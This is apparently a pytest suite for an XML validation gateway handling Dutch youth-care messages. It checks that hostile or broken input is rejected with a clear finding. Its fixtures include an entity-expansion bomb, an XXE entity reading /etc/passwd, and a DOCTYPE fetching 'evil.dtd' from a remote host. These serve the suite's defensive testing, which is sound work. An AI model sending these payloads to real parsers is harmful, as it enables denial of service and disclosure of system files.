"""Hostile and malformed input is refused with a clear finding, never an exception or a hang."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.core.report import Level
from gateway.core.validate import validate
from gateway.core.xmlsafe import parse_safely
from gateway.schemas import load_schema_set
from tests.paths import EXAMPLES_DIR, OFFICIAL_XSD_DIR

SCHEMAS = load_schema_set([OFFICIAL_XSD_DIR])
EXAMPLE = (EXAMPLES_DIR / "JW305.xml").read_bytes()

ENTITY_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

NETWORK_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://198.51.100.1/evil.dtd"><foo/>"""


def _only_finding(raw: bytes, **kwargs: int) -> tuple[str, str]:
    report = validate(raw, SCHEMAS, **kwargs)  # type: ignore[arg-type]
    assert report.level is Level.MALFORMED
    assert len(report.findings) == 1
    finding = report.findings[0]
    assert finding.retourcode is None, "malformed messages get no retour"
    return finding.rule, finding.message


@pytest.mark.parametrize(
    ("raw", "rule", "words"),
    [
        (ENTITY_BOMB, "XML-DTD", "DTD"),
        (EXTERNAL_ENTITY, "XML-DTD", "DTD"),
        (NETWORK_ENTITY, "XML-DTD", "DTD"),
        (b"\xef\xbb\xbf" + EXAMPLE, "XML-BOM", "byte-order mark"),
        (b"\xff\xfe<\x00a\x00/\x00>\x00", "XML-BOM", "UTF-16"),
        (
            EXAMPLE.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'),
            "XML-ENCODING",
            "ISO-8859-1",
        ),
        (
            EXAMPLE.replace(b"<jw305:Geslacht>", b"<jw305:Geslacht>\xe9"),
            "XML-ENCODING",
            "not valid UTF-8",
        ),
        (bytes(range(256)) * 4, "XML-ENCODING", "UTF-8"),
        (b"\x89PNG\r\n\x1a\n" + b"junk" * 100, "XML-ENCODING", "UTF-8"),
        (b"this is not xml at all", "XML-SYNTAX", "well-formed"),
        (EXAMPLE[: len(EXAMPLE) // 2], "XML-SYNTAX", "well-formed"),
        (b"", "XML-EMPTY", "empty"),
        (b"   \r\n", "XML-EMPTY", "empty"),
        (b"<a>" * 5000 + b"</a>" * 5000, "XML-DEPTH", "depth"),
    ],
    ids=[
        "entity-bomb",
        "external-entity",
        "network-dtd",
        "utf8-bom",
        "utf16-bom",
        "latin1-declared",
        "invalid-utf8-byte",
        "binary-junk",
        "png",
        "plain-text",
        "truncated",
        "empty",
        "whitespace",
        "deep-nesting",
    ],
)
def test_hostile_input_is_a_malformed_finding(raw: bytes, rule: str, words: str) -> None:
    """Each hostile or broken input yields exactly one malformed finding with a clear reason."""
    found_rule, message = _only_finding(raw)
    assert found_rule == rule
    assert words.lower() in message.lower()


def test_external_entity_is_never_resolved(tmp_path: Path) -> None:
    """An entity pointing at a local file never pulls that file's content into the tree."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET")
    raw = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "'
        + secret.as_uri().encode()
        + b'">]><r>&x;</r>'
    )
    result = parse_safely(raw)
    assert result.tree is None
    assert "TOPSECRET" not in repr(result.findings)


def test_oversized_message_is_refused_before_parsing() -> None:
    """A 30 MB message exceeds the 25 MB limit of the standard and is refused by size."""
    raw = EXAMPLE.replace(
        b"</jw305:Bericht>", b"<!--" + b"x" * (30 * 1024 * 1024) + b"--></jw305:Bericht>"
    )
    rule, message = _only_finding(raw)
    assert rule == "XML-SIZE"
    assert "25 MB" in message


def test_size_limit_is_configurable() -> None:
    """A smaller configured limit applies exactly: at the limit passes, one byte over fails."""
    assert validate(EXAMPLE, SCHEMAS, max_bytes=len(EXAMPLE)).level is Level.OK
    rule, _ = _only_finding(EXAMPLE, max_bytes=len(EXAMPLE) - 1)
    assert rule == "XML-SIZE"


def test_syntax_error_reports_line_and_column() -> None:
    """A broken tag is reported at its line so an operator can find it."""
    broken = EXAMPLE.replace(b"</jw305:Geslacht>", b"</jw305:Geslacht", 1)
    report = validate(broken, SCHEMAS)
    finding = report.findings[0]
    expected_line = broken[: broken.index(b"</jw305:Geslacht")].count(b"\n") + 1
    assert finding.line is not None
    assert abs(finding.line - expected_line) <= 1
    assert finding.column is not None


def test_unknown_namespace_is_an_xsd_finding() -> None:
    """Well-formed XML that is no iJw message is refused at the XSD level, naming the namespace."""
    report = validate(b'<Bericht xmlns="urn:other"><Header/></Bericht>', SCHEMAS)
    assert report.level is Level.XSD
    assert report.findings[0].rule == "XSD-UNKNOWN"
    assert "urn:other" in report.findings[0].message


def test_examples_without_crlf_are_accepted() -> None:
    """Line ends are a writer's duty (OP192); intake accepts LF-only files."""
    assert validate(EXAMPLE.replace(b"\r\n", b"\n"), SCHEMAS).level is Level.OK


def test_bsn_value_never_appears_in_xsd_findings() -> None:
    """A malformed BSN is reported without echoing its digits."""
    raw = (EXAMPLES_DIR / "JW301.xml").read_bytes().replace(b"999900006", b"9999000061")
    report = validate(raw, SCHEMAS)
    assert report.level is Level.XSD
    assert all("9999000061" not in f.message for f in report.findings)
    assert any(f.path == "/Bericht/Client/Bsn" for f in report.findings)
